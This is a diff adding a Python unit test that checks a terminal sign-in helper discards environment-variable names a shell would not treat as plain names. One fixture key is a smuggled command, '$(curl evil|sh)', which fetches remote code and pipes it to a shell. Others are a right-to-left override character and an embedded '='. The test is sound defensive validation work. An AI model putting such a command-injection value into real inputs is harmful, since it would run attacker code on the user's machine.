@@ -1,0 +1,13 @@
+"""The agent's answers, read once for both versions: what the page is given to show."""
+
+from __future__ import annotations
+
+from webclient.acp.answers import terminal_auth_method
+
+
+def test_a_terminal_sign_in_keeps_only_environment_names_a_shell_takes_as_names() -> None:
+    raw = {"env": {"GOOD_NAME": "1", "$(curl evil|sh)": "x", "A\u202eB": "y", "A=B": "z", "N": 3}}
+
+    method = terminal_auth_method("t", raw)
+
+    assert method.env == (("GOOD_NAME", "1"),)
